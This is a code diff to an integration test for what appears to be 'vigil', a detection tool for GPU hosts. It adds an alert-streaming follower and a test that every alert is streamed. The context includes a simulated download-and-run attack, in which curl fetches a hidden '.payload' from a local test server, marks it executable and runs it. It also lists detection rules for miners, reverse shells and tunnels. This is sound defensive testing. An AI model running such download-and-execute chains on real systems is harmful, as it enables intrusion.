@@ -20,6 +20,7 @@ const nvIoctl = join(dir, 'nv-ioctl');
 const trainer = join(dir, 'train', 'bin', 'trainer');
 let api = '';
 let up: ReturnType<typeof startVigil>;
+let follow: ReturnType<typeof startVigil>;
 let sink: Server;
 let sinkPort = 0;
 let http: HttpServer;
@@ -52,12 +53,15 @@ before(async () => {
     const s = vigilJson<{ sensors: { host: string; probes: { state: string }[] }[] }>(api, ['status']);
     return s.sensors.find((x) => x.host === HOST)?.probes.every((p) => p.state === 'running');
   }, 90_000, 500).catch((err: Error) => { throw new Error(`${err.message}\n${up.logs.join('').slice(-3000)}`); });
+  follow = startVigil(['alerts', '--follow', '--json', '--api', api, '--host', HOST]);
+  await waitFor('the follower connected', () => vigilJson<{ controlPlane: { alertFollowers: number } }>(api, ['status']).controlPlane.alertFollowers >= 1, 20_000, 200);
 });
 
 after(async () => {
   console.log(`# detection evaluation: ${counts.caught}/${counts.attacks} attacks alerted with the right rule; ${counts.falseAlerts} alerts on ${counts.benign} benign workloads`);
   sink?.close();
   http?.close();
+  await follow?.stop();
   assert.equal(await up?.stop(), 0);
 });
 
@@ -119,6 +123,20 @@ test('a shell downloads a binary into a writable place and runs it on the GPU: o
   const a = await attack('download-run chain', 'chain.shell-download-run', () => runAsync('bash', ['-c', `curl -s -o ${dir}/.payload http://127.0.0.1:${httpPort}/x && chmod +x ${dir}/.payload && ${dir}/.payload ${gpuNode} 3; true`]));
   assert.match(a.reason, /downloaded with `curl -s -o .*\.payload http:\/\/127\.0\.0\.1:\d+\/x`, then ran .*\.payload/);
   assert.ok(a.evidence.length >= 2, 'the download and the GPU call are both evidence');
+});
+
+test('vigil alerts --follow --json streamed every alert as it was raised, one object per line', async () => {
+  const stored = alerts();
+  const parse = () => follow.logs.join('').split('\n').filter((l) => l.startsWith('{')).map((l) => JSON.parse(l) as AlertV1);
+  // The last lines may still be in the pipe from the follower.
+  const streamed = await waitFor('every stored alert streamed', () => {
+    const s = parse();
+    return stored.every((x) => s.some((a) => a.id === x.id)) ? s : null;
+  }, 10_000, 200).catch(() => parse());
+  for (const rule of ['miner.exec', 'gpu.unexpected-process', 'tunnel.ssh-forward', 'tunnel.tool', 'shell.reverse', 'chain.shell-download-run']) {
+    assert.ok(streamed.some((a) => a.ruleId === rule), `${rule} streamed`);
+  }
+  assert.ok(stored.every((s) => streamed.some((a) => a.id === s.id)), 'every stored alert was streamed');
 });
 
 test('benign work raises nothing: git over ssh, HTTPS with curl, pip, training on the GPU from its expected path, a compiler', async () => {
